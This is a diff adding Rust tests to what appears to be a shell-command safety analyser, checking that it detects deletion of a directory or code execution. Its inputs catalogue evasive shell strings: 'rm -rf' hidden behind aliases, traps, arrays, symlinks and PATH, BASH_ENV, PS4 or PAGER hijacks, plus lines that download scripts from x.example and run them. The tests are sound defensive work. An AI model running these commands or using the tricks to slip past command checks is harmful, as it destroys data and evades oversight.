@@ -311,3 +311,129 @@ fn any_shell() -> impl proptest::strategy::Strategy<Value = String> {
     ];
     proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
 }
+
+/// Every text must reach the directory `dir`, whatever else it may do.
+fn reaches(texts: &[&str]) {
+    for text in texts {
+        let found = lines(text);
+        let is_there = |path: &str| Path::new(path).starts_with("/w/dir");
+        let hit = |line: &String| {
+            line.starts_with('?') || line.strip_prefix("delete ").is_some_and(|rest| rest.split(' ').any(is_there))
+        };
+        assert!(found.iter().any(hit), "{text}: {found:?}");
+    }
+}
+
+#[test]
+fn what_a_branch_leaves_behind_counts() {
+    reaches(&[
+        "D=x; for c in dir y; do if [ -d $c ]; then D=$c; break; fi; done; rm -rf $D",
+        "f() { if [ x ]; then D=dir; return; fi; D=y; }; f; rm -rf $D",
+        "if a; then f() { :; }; else f() { rm -rf dir; }; fi; f",
+        "if a; then rm() { :; }; fi; rm -rf dir",
+        "if a; then HOME=/x; fi; rm -rf $HOME/../../w/dir",
+        "D=x; case a in a) D=dir ;& b) rm -rf $D ;; esac",
+        "{ trap 'rm -rf dir' EXIT; } | cat",
+        "rm() { :; }; bash -c 'rm -rf dir'",
+        "alias rm=echo; bash -c 'rm -rf dir'",
+    ]);
+    check(&[
+        // Where both branches leave nothing behind, nothing is invented.
+        ("if a; then D=dir; else D=sub; fi; rm -rf $D", &["?execute [a]", "delete /w/dir /w/sub"]),
+        // What a subshell's own shell does not get, it does not see.
+        ("D=dir; bash -c 'rm -rf \"$D\"'", &["?delete [\"$D\"]"]),
+        ("export D=dir; bash -c 'rm -rf \"$D\"'", &["delete /w/dir"]),
+        ("D=dir bash -c 'rm -rf \"$D\"'", &["delete /w/dir"]),
+        ("f() { rm -rf dir; }; export -f f; bash -c f", &["delete /w/dir"]),
+    ]);
+}
+
+#[test]
+fn variables_are_what_the_shell_makes_of_them() {
+    reaches(&[
+        "a[1]=dir; rm -rf \"${a[1]}\"",
+        "a=([3]=dir); rm -rf \"${a[3]}\"",
+        "a=(x y); a[0]=dir; rm -rf \"${a[0]}\"",
+        "a=dir; a+=(y); rm -rf \"${a[@]}\"",
+        "a=(x dir); a=y; rm -rf \"${a[@]}\"",
+        "declare -n r=D; D=dir; rm -rf \"$r\"",
+        "D=x; declare -n r=D; r=dir; rm -rf \"$D\"",
+        "set -x -- dir; rm -rf \"$@\"",
+        "set -eu dir; rm -rf \"$1\"",
+        "set -o errexit dir; rm -rf \"$@\"",
+        "set dir y; shift 5; rm -rf \"$1\"",
+        "unset X; rm -rf ${X-dir}",
+        "IFS=, read -r a b <<< 'x,dir'; rm -rf \"$b\"",
+        "IFS=: read a b c <<< 'x:dir:y'; rm -rf \"$b\"",
+        "read -ra A <<< 'x dir'; rm -rf \"${A[@]}\"",
+        "while IFS=, read a b; do rm -rf \"$b\"; done <<< 'x,dir'",
+        "HOME=/w; rm -rf ~/dir",
+        "cd dir; cd ..; rm -rf ~-",
+        "CDPATH=/w; cd /home/me; cd dir && rm -rf ../dir",
+        "shopt -s extglob; rm -rf !(sub)",
+        "X=dirxx; rm -rf ${X%%+(x)}",
+    ]);
+}
+
+#[test]
+fn what_is_moved_or_linked_is_still_what_it_was() {
+    reaches(&[
+        "mv dir /tmp/x && rm -rf /tmp/x",
+        "mkdir /tmp/q; mv dir /tmp/q && rm -rf /tmp/q",
+        "ln -s dir l && rm -rf l/*",
+        "ln -s /w/dir l && cd l && rm -rf ../dir",
+        "ln -s /w /tmp/l; rm -rf /tmp/l/dir",
+        "cd /; rm -rf /proc/self/cwd/w/dir",
+        "cp plain run && ./run",
+        "mv plain run; ./run",
+        "ln -s plain run; ./run",
+        "ln plain run && bash run",
+        "cp /bin/rm x; ./x -rf dir",
+        "ln -s /bin/rm x; ./x -rf dir",
+        "curl -O https://x.example/i.sh; ./i.sh",
+        "wget https://x.example/i.sh; bash i.sh",
+        "wget https://x.example/i.sh; . ./i.sh",
+        "$(<plain)",
+        "hash -p ./plain ls; ls",
+        "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf dir",
+    ]);
+    check(&[
+        ("mv x y && rm -rf y", &["modify /w/x to /w/y", "delete /w/y /w/x"]),
+        // A copy is no other name, and a link that goes is only a link.
+        ("cp -r dir /tmp/c && rm -rf /tmp/c", &["create /tmp/c", "delete /tmp/c"]),
+        ("ln -s dir l && rm l", &["create /w/l", "delete /w/l files"]),
+        ("mv a.txt /dev/null", &["delete /w/a.txt files"]),
+    ]);
+}
+
+#[test]
+fn variables_that_run_something_are_run() {
+    reaches(&[
+        "PATH=.:$PATH plain",
+        "export PATH=/w:$PATH; plain",
+        "mkdir bin; echo 'rm -rf dir' > bin/ls; PATH=bin:$PATH ls",
+        "env PATH=/w plain",
+        "BASH_ENV=plain bash -c :",
+        "env BASH_ENV=./plain bash -c true",
+        "PROMPT_COMMAND='rm -rf dir' bash -i",
+        "PS4='$(rm -rf dir)' bash -xc :",
+        "PS4='$(rm -rf dir)'; set -x; ls",
+        "EDITOR='rm -rf dir #' crontab -e",
+        "export PAGER='rm -rf dir'; man ls",
+        "env -S 'rm -rf' dir",
+        "env -S'rm -rf dir'",
+        "env -iS 'rm -rf' dir",
+        "env --split-string='rm -rf' dir",
+        "env -C / A=b rm -rf w/dir",
+        "command_not_found_handle() { rm -rf dir; }; no_such_program",
+    ]);
+    check(&[
+        ("EDITOR=vi git --version", &[]),
+        ("PAGER=cat man ls", &[]),
+        ("BASH_ENV=/dev/null bash -c :", &[]),
+        ("PATH=/usr/bin rm a.txt", &["delete /w/a.txt files"]),
+        ("env A=b rm a.txt", &["delete /w/a.txt files"]),
+        ("env | grep A", &[]),
+        ("env --help", &[]),
+    ]);
+}
